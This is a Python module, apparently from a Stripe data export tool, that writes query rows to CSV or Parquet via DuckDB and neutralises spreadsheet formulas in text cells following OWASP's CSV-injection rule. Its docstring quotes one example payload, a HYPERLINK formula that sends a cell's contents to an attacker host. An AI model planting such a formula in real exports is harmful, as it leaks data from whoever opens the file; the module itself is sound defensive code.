"""Writing rows to a CSV or Parquet file: the one way every export is written.

The web app's download, ``flitch export`` and ``flitch sql --csv`` all end here, whether the
rows come from the cache (``reader``) or were just read from Stripe (``memory``). DuckDB's
``COPY … TO`` writes the file aside and it is renamed into place whole, readable by its owner
only.

**Spreadsheet formulas.** Stripe data is written by end users: a customer's name or a charge's
description can be ``=HYPERLINK("http://evil.example/?x="&A1,"click")``, and a spreadsheet opening
the CSV would run it. In a CSV every *text* cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return gets a ``'`` in front (OWASP's rule for CSV injection), which a
spreadsheet shows as the text itself. Only text columns are touched: a negative amount is a
number column and stays ``-500``; JSON and lists start with a bracket anyway. Parquet is typed,
so a spreadsheet never evaluates it: it keeps every value exactly.
"""

from __future__ import annotations

import os
import secrets
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb

from flitch import clock as clocks
from flitch.private import PRIVATE_FILE, private_dir
from flitch.store.base import ExportFormat, ExportResult, QueryFailed
from flitch.store.files import remove_path
from flitch.store.schema import first_row, quote_ident, quote_literal

#: What a CSV text cell must not start with (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: DuckDB type ids whose values are written to CSV as bare text (JSON's id is varchar too).
_TEXT_TYPES = frozenset({"varchar", "enum"})
_FORMATS: dict[str, str] = {"csv": "FORMAT csv, HEADER true", "parquet": "FORMAT parquet"}


def neutralise(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows and never evaluates."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _neutralised(column: str) -> str:
    """The SQL of :func:`neutralise` on one text column.

    A chain of ``starts_with`` rather than ``left(…, 1) IN (…)``: DuckDB turns an ``IN`` list
    of more than a few values into a join, and the rows then reach the file out of order."""
    value = f"CAST({column} AS VARCHAR)"
    starts = " OR ".join(f"starts_with({value}, {quote_literal(c)})" for c in FORMULA_STARTS)
    return f"CASE WHEN {starts} THEN '''' || {value} ELSE {value} END"


def csv_select(con: duckdb.DuckDBPyConnection, sql: str, params: Any = None) -> str:
    """``sql`` wrapped so that its text columns are neutralised, its names and order kept.

    The columns are renamed by position first, so duplicate or odd names in the user's
    SELECT (``SELECT 1 AS a, 2 AS a``) come out as they went in."""
    described = con.execute(f"SELECT * FROM ({sql}) LIMIT 0", params).description or []  # noqa: S608
    if not any(str(getattr(d[1], "id", "")) in _TEXT_TYPES for d in described):
        return sql
    inner = [f"c{i}" for i in range(len(described))]
    outer = []
    for (name, type_, *_), col in zip(described, inner, strict=True):
        value = _neutralised(col) if str(getattr(type_, "id", "")) in _TEXT_TYPES else col
        outer.append(f"{value} AS {quote_ident(str(name))}")
    return f"SELECT {', '.join(outer)} FROM ({sql}) AS _rows({', '.join(inner)})"  # noqa: S608


def write(
    connect: Callable[[Path], duckdb.DuckDBPyConnection],
    sql: str,
    fmt: ExportFormat,
    dest: Path,
    *,
    params: Any = None,
    limit: int | None = None,
    clock: Callable[[], float] = clocks.now,
) -> ExportResult:
    """Write the rows of ``sql`` to ``dest`` as ``fmt``; at most ``limit`` rows if given.

    ``connect(partial)`` opens the connection that runs the statement, allowed to write
    ``partial`` (the file being written, renamed to ``dest`` once whole) and nothing else.
    ``now()`` and its kin in the SQL answer ``clock``, as in a query."""
    options = _FORMATS.get(fmt)
    if options is None:
        raise QueryFailed(f"Cannot export as {fmt!r}.", "Choose csv or parquet.")
    dest = Path(dest).absolute()
    dest.parent.mkdir(parents=True, exist_ok=True)
    # DuckDB creates the file with the process's umask: it is written inside a folder only
    # its owner can enter, made private, then moved into place whole.
    aside = private_dir(dest.with_name(f".{dest.name}.{secrets.token_hex(4)}.partial"))
    partial = aside / dest.name
    con = connect(partial)
    try:
        if clocks.mentions_time(sql):
            for statement in clocks.sql_clock(clock()):
                con.execute(statement)
        if limit is not None:
            sql = f"SELECT * FROM ({sql}) LIMIT {int(limit)}"  # noqa: S608
        if fmt == "csv":
            sql = csv_select(con, sql, params)
        found = first_row(
            con.execute(f"COPY ({sql}) TO {quote_literal(str(partial))} ({options})", params)
        )
        os.chmod(partial, PRIVATE_FILE)
        os.replace(partial, dest)
    except duckdb.Error as exc:
        raise QueryFailed(
            f"The export failed: {exc}", "Check the SQL and the destination folder."
        ) from None
    finally:
        con.close()
        remove_path(aside)
    return ExportResult(path=dest, format=fmt, rows=int(found[0]) if found else 0)


def arrow_connection(rows: Any, name: str, partial: Path) -> duckdb.DuckDBPyConnection:
    """A private DuckDB holding ``rows`` (Arrow) as the view ``name``, allowed to write
    ``partial`` and nothing else, with its configuration locked."""
    con = duckdb.connect(":memory:", config={"temp_directory": ""})
    try:
        con.execute("SET TimeZone = 'UTC'")
        con.register(name, rows)
        con.execute(f"SET allowed_paths = [{quote_literal(str(partial))}]")
        con.execute("SET enable_external_access = false")
        con.execute("SET lock_configuration = true")
    except BaseException:
        con.close()
        raise
    return con
